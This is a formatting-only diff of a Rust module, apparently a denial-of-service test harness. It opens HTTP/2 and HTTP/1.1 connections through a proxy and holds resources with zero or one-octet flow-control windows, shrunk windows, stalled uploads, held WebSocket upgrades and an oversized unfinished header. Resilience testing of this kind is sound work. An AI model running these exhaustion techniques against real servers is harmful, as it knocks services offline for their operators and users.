@@ -69,7 +69,9 @@ impl Attack {
         let mut stream = self.connect().await?;
         let authority = format!("{}:{}", address(number), self.origins.secure);
         stream
-            .write_all(format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes())
+            .write_all(
+                format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes(),
+            )
             .await?;
         let mut head = Vec::new();
         while !head.ends_with(b"\r\n\r\n") {
@@ -78,7 +80,8 @@ impl Attack {
         if !head.starts_with(b"HTTP/1.1 200") {
             return Err(String::from_utf8_lossy(&head).into());
         }
-        let name = rustls::pki_types::ServerName::IpAddress(std::net::IpAddr::V4(address(number)).into());
+        let name =
+            rustls::pki_types::ServerName::IpAddress(std::net::IpAddr::V4(address(number)).into());
         let stream = TlsConnector::from(Arc::clone(&self.trust)).connect(name, stream).await?;
         let (sender, connection) = builder.handshake(stream).await?;
         Ok((sender, connection, authority))
@@ -130,7 +133,8 @@ async fn forever() -> Outcome {
 
 /// Streams whose windows are shut from the start.
 pub async fn shut_streams(attack: Arc<Attack>, number: usize, streams: usize) -> Outcome {
-    let (sender, connection, authority) = attack.h2(number, Builder::new().initial_window_size(0)).await?;
+    let (sender, connection, authority) =
+        attack.h2(number, Builder::new().initial_window_size(0)).await?;
     tokio::spawn(connection);
     let (_sender, answers) = ask(&attack, sender, &authority, streams).await?;
     let _kept = keep(&attack, answers).await;
@@ -149,7 +153,8 @@ pub async fn shut_connection(attack: Arc<Attack>, number: usize, streams: usize)
 
 /// Windows of one octet, which are opened again for each octet.
 pub async fn octet_windows(attack: Arc<Attack>, number: usize, streams: usize) -> Outcome {
-    let (sender, connection, authority) = attack.h2(number, Builder::new().initial_window_size(1)).await?;
+    let (sender, connection, authority) =
+        attack.h2(number, Builder::new().initial_window_size(1)).await?;
     tokio::spawn(connection);
     let (_sender, answers) = ask(&attack, sender, &authority, streams).await?;
     let mut kept = keep(&attack, answers).await;
@@ -177,7 +182,10 @@ fn futures_now<T>(future: impl Future<Output = T>) -> Option<T> {
 /// can be.
 pub async fn shrunk_windows(attack: Arc<Attack>, number: usize, streams: usize) -> Outcome {
     let (sender, mut connection, authority) = attack
-        .h2(number, Builder::new().initial_window_size(1 << 20).initial_connection_window_size(8 << 20))
+        .h2(
+            number,
+            Builder::new().initial_window_size(1 << 20).initial_connection_window_size(8 << 20),
+        )
         .await?;
     let (shrink, shrunk) = tokio::sync::oneshot::channel();
     tokio::spawn(async move {
@@ -214,7 +222,8 @@ pub async fn h2_uploads(attack: Arc<Attack>, number: usize, streams: usize) -> O
             break;
         };
         let mut sender = ready?;
-        let request = Request::post(format!("https://{authority}/nothing")).header("user-agent", "Hoarder/1");
+        let request =
+            Request::post(format!("https://{authority}/nothing")).header("user-agent", "Hoarder/1");
         let (answer, body) = sender.send_request(request.body(()).expect("a request"), false)?;
         let attack = Arc::clone(&attack);
         kept.spawn(async move {
@@ -271,7 +280,9 @@ pub async fn chunked(attack: Arc<Attack>, number: usize, _: usize) -> Outcome {
     let mut stream = attack.connect().await?;
     let url = attack.url(number, "/chunked");
     stream
-        .write_all(format!("GET {url} HTTP/1.1\r\nHost: a\r\nUser-Agent: Hoarder/1\r\n\r\n").as_bytes())
+        .write_all(
+            format!("GET {url} HTTP/1.1\r\nHost: a\r\nUser-Agent: Hoarder/1\r\n\r\n").as_bytes(),
+        )
         .await?;
     // One that is refused is told so, and no more comes.
     let (mut room, mut read) = (vec![0; 16 << 10], 0);
@@ -303,7 +314,8 @@ pub async fn sockets(attack: Arc<Attack>, number: usize, _: usize) -> Outcome {
                   Sec-WebSocket-Version: 13\r\n";
     stream
         .write_all(
-            format!("GET {url} HTTP/1.1\r\nHost: a\r\nUser-Agent: Hoarder/1\r\n{fields}\r\n").as_bytes(),
+            format!("GET {url} HTTP/1.1\r\nHost: a\r\nUser-Agent: Hoarder/1\r\n{fields}\r\n")
+                .as_bytes(),
         )
         .await?;
     stream.readable().await?;
@@ -316,7 +328,9 @@ pub async fn heads(attack: Arc<Attack>, number: usize, _: usize) -> Outcome {
     let mut stream = attack.connect().await?;
     let url = attack.url(number, "/page");
     stream
-        .write_all(format!("GET {url} HTTP/1.1\r\nHost: a\r\nX: {}", "x".repeat(60 << 10)).as_bytes())
+        .write_all(
+            format!("GET {url} HTTP/1.1\r\nHost: a\r\nX: {}", "x".repeat(60 << 10)).as_bytes(),
+        )
         .await?;
     attack.settle(1);
     forever().await
